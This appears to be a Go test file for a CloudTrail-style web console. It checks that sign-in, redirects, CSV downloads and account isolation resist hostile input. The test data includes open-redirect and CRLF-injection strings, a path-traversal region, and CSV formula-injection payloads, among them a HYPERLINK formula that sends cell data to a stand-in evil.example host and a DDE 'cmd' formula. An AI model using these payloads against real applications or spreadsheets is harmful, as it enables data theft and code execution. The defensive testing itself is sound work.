
// seedInsight stores an Insight's Start and End records (as the detector
// writes them) and perMinute PutObject calls a minute over its minutes.
func seedInsight(t *testing.T, st *audittest.MemStore, account string, start time.Time, minutes, perMinute int) string {
	t.Helper()
	in := insights.Insight{Key: insights.Key{Account: account, Region: "us-east-1", InsightType: "ApiCallRateInsight",
		EventSource: "s3.amazonaws.com", EventName: "PutObject"}, State: "Start", Start: start,
		BaselineAverage: 0.5, BaselineMinutes: 10080, InsightAverage: float64(perMinute), InsightMinutes: 5}
	var rs []audit.Record
	for _, state := range []string{"Start", "End"} {
		in.State = state
		if state == "End" {
			in.End = start.Add(time.Duration(minutes) * time.Minute)
			in.InsightMinutes = minutes
		}
		r, err := insights.Record(in, nil)
		if err != nil {
			t.Fatal(err)
		}
		rs = append(rs, r)
	}
	if _, err := st.Append(context.Background(), rs); err != nil {
		t.Fatal(err)
	}
	for m := range minutes {
		seed(t, st, account, "us-east-1", perMinute, start.Add(time.Duration(m)*time.Minute+50*time.Second), "PutObject", false)
	}
	var shared struct {
		SharedEventID string `json:"sharedEventID"`
	}
	json.Unmarshal(rs[0].Raw, &shared)
	return shared.SharedEventID
}

func TestInsights(t *testing.T) {
	h := newHarness(t, Config{})
	start := h.clock.now().Add(-3 * time.Hour).Truncate(time.Minute)
	shared := seedInsight(t, h.st, acctA, start, 6, 7)
	sharedB := seedInsight(t, h.st, acctB, start, 3, 2)
	c := h.browser(t)
	h.signIn(t, c, keyA, secretA)
	code, body, _ := get(t, c, h.srv.URL+Prefix+"insights?region=us-east-1")
	if code != 200 || !strings.Contains(body, `data-insight-id="`+shared+`"`) || strings.Contains(body, sharedB) {
		t.Fatalf("Insights list = %d; want alice's Insight only", code)
	}
	if !strings.Contains(body, "ApiCallRateInsight") || !strings.Contains(body, start.Format("2006-01-02 15:04 UTC")) {
		t.Errorf("the list lacks the type or the start")
	}
	code, body, _ = get(t, c, h.srv.URL+Prefix+"insight?region=us-east-1&name=PutObject&id="+shared)
	if code != 200 || !strings.Contains(body, `<svg id="insight-chart"`) || !strings.Contains(body, "(42 events over 67 minutes)") {
		t.Errorf("chart page = %d; want an SVG of 42 events over 67 minutes:\n%s", code, body[strings.Index(body, "<main"):])
	}
	if !strings.Contains(body, `id="insight-events" href="/console/events?`) {
		t.Error("the chart does not link to its window's events")
	}
	for _, q := range []string{"id=" + sharedB + "&name=PutObject", "id=" + sharedB, "id=nope", "id="} {
		if code, body, _ := get(t, c, h.srv.URL+Prefix+"insight?region=us-east-1&"+q); code != http.StatusNotFound || strings.Contains(body, "<svg") {
			t.Errorf("insight?%s = %d; want 404 without a chart", q, code)
		}
	}
}

func TestResultTable(t *testing.T) {
	rows := [][]map[string]string{
		{{"a": "1"}, {"b": "x"}},
		{{"b": "y"}},             // a null
		{{"a": "3"}, {"c": "z"}}, // a column first seen here
	}
	cols, got := table(rows, nil)
	if !slices.Equal(cols, []string{"a", "b", "c"}) {
		t.Fatalf("columns = %v", cols)
	}
	want := [][]string{{"1", "x", ""}, {"", "y", ""}, {"3", "", "z"}}
	for i := range want {
		if !slices.Equal(got[i], want[i]) {
			t.Errorf("row %d = %q; want %q", i, got[i], want[i])
		}
	}
}

// TestHostileSignIn: oversized or malformed sign-in forms get a page with
// a 4xx, never a 500, and record nothing.
func TestHostileSignIn(t *testing.T) {
	h := newHarness(t, Config{})
	for _, tc := range []struct {
		name string
		form func(token string) string
		code int
	}{
		{"body over 16 KiB", func(tok string) string {
			return "csrf=" + tok + "&access_key_id=" + keyA + "&secret_access_key=" + strings.Repeat("x", 20<<10)
		}, 400},
		{"malformed encoding", func(tok string) string { return "csrf=" + tok + "&access_key_id=%zz" }, 400},
		{"key ID of 10,000 bytes", func(tok string) string {
			return "csrf=" + tok + "&access_key_id=" + strings.Repeat("A", 10000) + "&secret_access_key=x"
		}, 401},
		{"NUL and invalid UTF-8", func(tok string) string { return "csrf=" + tok + "&access_key_id=%00%FF&secret_access_key=%00" }, 401},
		{"region not a region", func(tok string) string {
			return "csrf=" + tok + "&access_key_id=" + keyA + "&secret_access_key=" + secretA + "&region=../../etc"
		}, 303},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := h.browser(t)
			_, body, _ := get(t, c, h.srv.URL+Prefix+"signin")
			tok := csrfRE.FindStringSubmatch(body)[1]
			req, _ := http.NewRequest("POST", h.srv.URL+Prefix+"signin", strings.NewReader(tc.form(tok)))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			resp, err := c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != tc.code {
				t.Errorf("sign-in = %d; want %d", resp.StatusCode, tc.code)
			}
			if tc.code == 303 && resp.Header.Get("Location") != Prefix+"events?region="+DefaultRegion {
				t.Errorf("signed in to %q; want the default region", resp.Header.Get("Location"))
			}
		})
	}
	for _, r := range h.records(t, acctA, "ConsoleLogin") {
		if r["awsRegion"] != DefaultRegion {
			t.Errorf("ConsoleLogin recorded in %v", r["awsRegion"])
		}
	}
}

func TestSafeNext(t *testing.T) {
	for in, want := range map[string]string{
		Prefix + "events?region=eu-west-1&k=EventName&v=X": Prefix + "events?region=eu-west-1&k=EventName&v=X",
		Prefix + "trails":               Prefix + "trails",
		"//evil.example/console/":       "",
		"https://evil.example/":         "",
		"/consolex/":                    "",
		Prefix + "\\evil":               "",
		Prefix + "x\r\nSet-Cookie: a=b": "",
		"":                              "",
		"javascript:alert(1)":           "",
	} {
		if got := safeNext(in); got != want {
			t.Errorf("safeNext(%q) = %q; want %q", in, got, want)
		}
	}
}

// TestSignInNextStaysInConsole: a sign-in's next that a browser would
// resolve outside the console (a tab or newline the browser strips, a
// dot-dot out of /console/, another host) lands on Event History instead.
func TestSignInNextStaysInConsole(t *testing.T) {
	h := newHarness(t, Config{})
	for _, next := range []string{
		Prefix + "../\t/evil.example/",
		Prefix + "..//evil.example/",
		Prefix + "../\n/evil.example/",
		Prefix + "..\t/\t/evil.example/",
		Prefix + "../../\x7f/evil.example",
		Prefix + "..",
		"/\t/evil.example/console/",
		"https://evil.example" + Prefix,
	} {
		t.Run(strconv.Quote(next), func(t *testing.T) {
			c := h.browser(t)
			_, body, _ := get(t, c, h.srv.URL+Prefix+"signin?next="+url.QueryEscape(next))
			tok := csrfRE.FindStringSubmatch(body)[1]
			code, _, hdr := post(t, c, h.srv.URL+Prefix+"signin", url.Values{"csrf": {tok}, "access_key_id": {keyA},
				"secret_access_key": {secretA}, "region": {"us-east-1"}, "next": {next}}, nil)
			if loc := hdr.Get("Location"); code != http.StatusSeeOther || loc != Prefix+"events?region=us-east-1" {
				t.Errorf("sign-in with next %q = %d to %q; want Event History", next, code, loc)
			}
			if strings.Contains(body, "evil.example") {
				t.Errorf("the sign-in form carries next %q", next)
			}
		})
	}
}

// TestDownloadCSVFormulas: record content that a spreadsheet would run as
// a formula (=, +, -, @, tab, CR first) is downloaded as text; numbers
// stay numbers.
func TestDownloadCSVFormulas(t *testing.T) {
	formulas := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"}
	h := newHarness(t, Config{})
	now := h.clock.now()
	for i, f := range formulas {
		seed(t, h.st, acctA, "us-east-1", 1, now.Add(-time.Duration(i+1)*time.Minute), f, false)
	}
	c := h.browser(t)
	h.signIn(t, c, keyA, secretA)
	code, body, _ := get(t, c, h.srv.URL+Prefix+"events/download?format=csv&region=us-east-1&k=EventSource&v=s3.amazonaws.com")
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if code != 200 || err != nil {
		t.Fatalf("CSV download = %d, %v", code, err)
	}
	var names []string
	for _, r := range rows[1:] {
		names = append(names, r[3])
	}
	for _, f := range formulas {
		if !slices.Contains(names, "'"+f) {
			t.Errorf("event name %q downloaded as %q; want it behind a '", f, names)
		}
	}
}

// TestCSVCells: csvCells' table (the Lake download's header and rows too).
func TestCSVCells(t *testing.T) {
	for in, want := range map[string]string{"-12.5": "-12.5", "+3": "+3", "-": "'-", "abc": "abc", "": "", "=1": "'=1", "@x": "'@x", "a=1": "a=1"} {
		if got := csvCells([]string{in})[0]; got != want {
			t.Errorf("csvCells(%q) = %q; want %q", in, got, want)
		}
	}
}

// gateRecorder holds each Commit until n are waiting (or a second has
// passed), so concurrent sign-ins are all in flight at once.
type gateRecorder struct {
	syncRecorder
	n       int
	mu      sync.Mutex
	waiting int
	open    chan struct{}
}

func (g *gateRecorder) Commit(ctx context.Context, rs ...audit.Record) error {
	g.mu.Lock()
	g.waiting++
	if g.waiting == g.n {
		close(g.open)
	}
	g.mu.Unlock()
	select {
	case <-g.open:
	case <-time.After(time.Second):
	}
	return g.syncRecorder.Commit(ctx, rs...)
}

// TestSignInThrottledConcurrently: wrong secrets sent at once for one key
// get no more checks than the key's limit (an attempt counts from its
// start, not once its ConsoleLogin record is stored).
func TestSignInThrottledConcurrently(t *testing.T) {
	const limit, tries = 3, 12
	st := audittest.NewMemStore()
	h := newHarness(t, Config{KeyFailures: limit, IPFailures: 100, FailureWindow: time.Minute,
		Recorder: &gateRecorder{syncRecorder: syncRecorder{st}, n: limit + 1, open: make(chan struct{})}})
	forms := make([]string, tries)
	clients := make([]*http.Client, tries)
	for i := range tries {
		clients[i] = h.browser(t)
		_, body, _ := get(t, clients[i], h.srv.URL+Prefix+"signin")
		forms[i] = csrfRE.FindStringSubmatch(body)[1]
	}
	codes := make([]int, tries)
	var wg sync.WaitGroup
	for i := range tries {
		wg.Add(1)
		go func() {
			defer wg.Done()
			req, _ := http.NewRequest("POST", h.srv.URL+Prefix+"signin", strings.NewReader(url.Values{"csrf": {forms[i]},
				"access_key_id": {keyA}, "secret_access_key": {"wrong"}}.Encode()))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			if resp, err := clients[i].Do(req); err == nil {
				codes[i] = resp.StatusCode
				resp.Body.Close()
			}
		}()
	}
	wg.Wait()
	checked := 0
	for _, code := range codes {
		switch code {
		case http.StatusUnauthorized:
			checked++
		case http.StatusTooManyRequests:
		default:
			t.Errorf("a concurrent sign-in = %d; want 401 or 429", code)
		}
	}
	if checked != limit {
		t.Errorf("%d of %d concurrent wrong secrets were checked; want the key's limit, %d", checked, tries, limit)
	}
	if n := st.Len(); n != limit {
		t.Errorf("%d ConsoleLogin records; want %d", n, limit)
	}
}

// TestSignInEndsPreviousSession: a browser that signs in again (as
// another account, say) gets a new session ID, and the session its old
// cookie named ends, so a copy of that cookie no longer works.
func TestSignInEndsPreviousSession(t *testing.T) {
	h := newHarness(t, Config{})
	c := h.browser(t)
	h.signIn(t, c, keyA, secretA)
	u, _ := url.Parse(h.srv.URL + Prefix)
	old := c.Jar.Cookies(u)
	h.signIn(t, c, keyB, secretB)
	for _, ck := range c.Jar.Cookies(u) {
		for _, o := range old {
			if ck.Name == sessionCookie && o.Name == sessionCookie && ck.Value == o.Value {
				t.Fatal("signing in again kept the session ID")
			}
		}
	}
	if code, body, _ := get(t, c, h.srv.URL+Prefix+"events?region=us-east-1"); code != 200 || !strings.Contains(body, acctB) {
		t.Errorf("after signing in as %s: %d", acctB, code)
	}
	stale := h.browser(t)
	stale.Jar.SetCookies(u, old)
	if code, _, hdr := get(t, stale, h.srv.URL+Prefix+"events?region=us-east-1"); code != http.StatusSeeOther ||
		!strings.HasPrefix(hdr.Get("Location"), Prefix+"signin") {
		t.Errorf("the previous session's cookie = %d to %q; want the sign-in page", code, hdr.Get("Location"))
	}
}

// TestIsolationHostileForms: another account's trail ARN in a form, or
// its Event History NextToken in a URL, reaches the API as the session's
// own call (the API's handlers refuse what is not the account's), never
// as the other account's.
func TestIsolationHostileForms(t *testing.T) {
	h := newHarness(t, Config{})
	now := h.clock.now()
	seed(t, h.st, acctA, "us-east-1", 3, now.Add(-time.Hour), "PutObject", false)
	idsB := seed(t, h.st, acctB, "us-east-1", 60, now.Add(-time.Hour), "PutObject", false)
	bob := h.browser(t)
	h.signIn(t, bob, keyB, secretB)
	_, body, _ := get(t, bob, h.srv.URL+Prefix+"events?region=us-east-1")
	next := regexp.MustCompile(`href="([^"]+)" id="page-next"`).FindStringSubmatch(body)
	if next == nil {
		t.Fatal("bob's first page has no next page")
	}
	nextURL, _ := url.Parse(strings.ReplaceAll(next[1], "&amp;", "&"))
	alice := h.browser(t)
	h.signIn(t, alice, keyA, secretA)
	for _, path := range []string{"events?", "events/download?format=json&", "events/download?format=csv&"} {
		_, body, _ := get(t, alice, h.srv.URL+Prefix+path+"region=us-east-1&token="+url.QueryEscape(nextURL.Query().Get("token")))
		for _, id := range idsB {
			if strings.Contains(body, id) {
				t.Fatalf("alice's %s with bob's NextToken shows bob's %s", path, id)
			}
		}
	}
	csrf := h.sessionCSRF(t, alice)
	arnB := "arn:aws:cloudtrail:us-east-1:" + acctB + ":trail/t"
	for _, action := range []string{"stop", "start"} {
		post(t, alice, h.srv.URL+Prefix+"trails/logging", url.Values{"csrf": {csrf}, "region": {"us-east-1"}, "name": {arnB}, "action": {action}}, nil)
	}
	h.mu.Lock()
	defer h.mu.Unlock()
	if h.handled["StopLogging "+acctB]+h.handled["StartLogging "+acctB] != 0 || h.handled["StopLogging "+acctA] != 1 || h.handled["StartLogging "+acctA] != 1 {
		t.Errorf("alice's forms naming bob's trail were served as %v; want alice's calls only", h.handled)
	}
}
